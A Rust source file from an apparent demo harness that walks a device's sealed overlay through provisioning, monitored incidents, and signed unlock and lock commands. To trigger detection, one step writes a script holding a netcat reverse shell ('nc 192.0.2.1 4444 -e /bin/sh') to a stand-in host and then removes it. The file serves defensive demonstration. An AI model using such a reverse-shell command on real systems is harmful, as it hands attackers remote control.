//! A device's persistent overlay (Zone 2): sealed by a signed command, watched, opened and closed again
//! (guide, "Zone 2 Overlay Change Response").

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::time::{Duration, SystemTime};

use openfactory_attest::envelope::Envelope;
use openfactory_sn::Row;
use openfactory_sn::lifecycle::event::EventBody;
use openfactory_sn::lifecycle::event::command::{CommandIssued, CommandOutcome};
use openfactory_sn::lifecycle::id::DeviceId;
use openfactory_zone2::command::{Action, Authority, Command, Target};

use super::super::build;
use super::super::error::{DemoError, During as _};
use super::super::overlay::{self, ADDRESS, STRAY_ADDRESS};
use super::super::story::Story;
use crate::agent;
use crate::shutdown::Shutdown;

/// Who gives commands.
const OPERATOR: &str = "ada.okafor@example.com";
/// How long a command counts.
const COUNTS: Duration = Duration::from_secs(24 * 3600);

/// Tells of the overlay of one device.
pub(crate) async fn tell(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> {
    story.narrator.chapter("A device's overlay is provisioned, sealed by a signed command, and watched")?;
    provisioned(story, device).await?;
    address(story, device).await?;
    executable(story, device).await?;
    opened_and_closed(story, device).await
}

/// The first values, checked against the policy before they are written; then the seal.
async fn provisioned(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> {
    let Story { site, narrator, .. } = story;
    let (here, id) = ((*site).clone(), device.clone());
    let config = story.services.agent(device)?;
    let written = tokio::task::spawn_blocking(move || overlay::provision(&here, &id, &config)).await;
    written.during("provision the overlay")??;
    let lock = command(story, device, "lock-1", Action::Lock, "provisioning is complete")?;
    let config = story.services.agent(device)?;
    let (obeyed, _delivered) =
        agent::obey(&config, &lock, SystemTime::now()).await.during("have the overlay locked")?;
    match &obeyed.outcome {
        CommandOutcome::Done { detail } => narrator.say(format_args!("locked          {detail}"))?,
        CommandOutcome::Refused { code, .. } if code == "used" => {}
        other => return Err(DemoError::new(format!("the overlay was not locked: {other:?}"))),
    }
    if !story.attest(device).await? && !site.is_done("overlay-watched") {
        return Err(DemoError::new("the freshly sealed overlay does not match its seal"));
    }
    site.done("overlay-watched")
}

/// The interface gets an address outside of the plant's network.
async fn address(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> {
    let Story { site, narrator, .. } = story;
    if site.is_done("overlay-address") {
        return Ok(());
    }
    // Once found and put right it is not to stray again, or there would be an incident more.
    if !site.is_done("overlay-address-found") {
        overlay::set_address(site, device, STRAY_ADDRESS)?;
    }
    let incident = reported(story, device, "Network address").await?;
    let group = incident.text("assignment_group").parse().during("read a group's key")?;
    let group = story.row("sys_user_group", &group).await?;
    let group = group.map(|group| group.text("name").to_owned()).unwrap_or_default();
    narrator.say(format_args!(
        "address         {STRAY_ADDRESS} instead of {ADDRESS}: {} (P{}) for {group}",
        incident.text("number"),
        incident.text("priority"),
    ))?;
    site.done("overlay-address-found")?;
    overlay::set_address(site, device, ADDRESS)?;
    resolved(story, device, &incident).await?;
    site.done("overlay-address")
}

/// Somebody puts a program where none may be.
async fn executable(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> {
    let Story { site, narrator, .. } = story;
    if site.is_done("overlay-executable") {
        return Ok(());
    }
    let path = overlay::root(site, device).join("etc/plant/helper");
    if !site.is_done("overlay-executable-found") {
        fs::write(&path, "#!/bin/sh\nexec nc 192.0.2.1 4444 -e /bin/sh\n").during("write an executable")?;
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).during("write an executable")?;
    }
    let incident = reported(story, device, "Executable in the overlay").await?;
    narrator.say(format_args!(
        "executable      {} (P{}): {}",
        incident.text("number"),
        incident.text("priority"),
        incident.text("short_description")
    ))?;
    site.done("overlay-executable-found")?;
    remove(&path)?;
    resolved(story, device, &incident).await?;
    site.done("overlay-executable")
}

fn remove(path: &Path) -> Result<(), DemoError> {
    match fs::remove_file(path) {
        Err(error) if error.kind() != std::io::ErrorKind::NotFound => {
            Err(error).during("remove the executable")
        }
        _ => Ok(()),
    }
}

/// A window for maintenance: the command goes by way of the router to the agent's long poll.
async fn opened_and_closed(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> {
    let Story { site, narrator, .. } = story;
    if site.is_done("overlay-maintained") {
        return Ok(());
    }
    let stop = Shutdown::new();
    let (mut config, token) = (story.services.agent(device)?, stop.clone());
    (config.run.interval_s, config.run.jitter_s, config.run.poll_s) = (3600, 0, 5);
    let running = tokio::spawn(async move { agent::run(&config, &token).await });
    let told = async {
        issue(story, device, "unlock-1", Action::Unlock, "a gateway on the line is replaced").await?;
        let opened = emergency(story, device, |_| true).await?;
        narrator.say(format_args!(
            "unlocked        by the agent's long poll: {}: {}",
            opened.text("number"),
            opened.text("short_description")
        ))?;
        issue(story, device, "lock-2", Action::Lock, "the gateway is replaced").await?;
        narrator
            .wait_for("the overlay to be locked", || async {
                let item = story.item(device).await?;
                Ok(item.filter(|item| item.text("u_lockdown_state") == "locked"))
            })
            .await?;
        let closed = emergency(story, device, |row| story.stands(row, "3")).await?;
        narrator.say(format_args!(
            "locked          a new seal is written; {} is closed: {}",
            closed.text("number"),
            closed.text("close_code")
        ))
    }
    .await;
    stop.trigger();
    running.await.during("stop the agent")?.during("run the agent")?;
    told?;
    site.done("overlay-maintained")
}

/// The emergency change request of the unlock.
async fn emergency(
    story: &Story<'_>,
    device: &DeviceId,
    good: impl Fn(&Row) -> bool,
) -> Result<Row, DemoError> {
    let good = &good;
    let title = format!("overlay of device {device} unlocked");
    let title = title.as_str();
    story
        .narrator
        .wait_for("the emergency change request of the unlock", || async move {
            let rows = story.find("change_request", "type", "emergency").await?;
            Ok(rows.into_iter().find(|row| row.text("short_description").contains(title) && good(row)))
        })
        .await
}

/// Reports until ServiceNow has an open incident of the device whose short description has the words.
async fn reported(story: &Story<'_>, device: &DeviceId, word: &str) -> Result<Row, DemoError> {
    story
        .narrator
        .wait_for("the incident about the overlay", || async {
            story.attest(device).await?;
            let rows = story.find("incident", "u_device", device.as_str()).await?;
            Ok(rows.into_iter().find(|row| row.text("short_description").contains(word)))
        })
        .await
}

/// Reports until the incident is resolved.
async fn resolved(story: &Story<'_>, device: &DeviceId, incident: &Row) -> Result<(), DemoError> {
    let row = story
        .narrator
        .wait_for("the incident to be resolved", || async {
            story.attest(device).await?;
            let row = story.row("incident", incident.sys_id()).await?;
            Ok(row.filter(|row| row.text("state") == "6"))
        })
        .await?;
    story.narrator.say(format_args!("resolved        {}: {}", row.text("number"), row.text("close_code")))
}

/// A command, signed once.
fn command(
    story: &Story<'_>,
    device: &DeviceId,
    name: &str,
    action: Action,
    why: &str,
) -> Result<Vec<u8>, DemoError> {
    let site = story.site;
    build::once(&overlay::file(site, &format!("{name}.json")), || {
        let authority = Authority::new(OPERATOR, why, "CHG0010001");
        let (now, target) = (SystemTime::now(), Target::Device(device.to_string()));
        let command = Command::new(format!("{device}.{name}"), action, target, authority, now, now + COUNTS)?;
        let key = site.key(super::super::site::OPERATOR)?;
        Ok(command.sign(&key)?.to_json())
    })
}

/// Has the router keep a command for the device.
async fn issue(
    story: &Story<'_>,
    device: &DeviceId,
    name: &str,
    action: Action,
    why: &str,
) -> Result<(), DemoError> {
    let bytes = command(story, device, name, action, why)?;
    let envelope = Envelope::parse(&bytes).during("read the signed command")?;
    story
        .send_as_operator(&format!("command.{name}"), || {
            Ok(EventBody::CommandIssued(Box::new(CommandIssued::new(device.clone(), envelope))))
        })
        .await
}
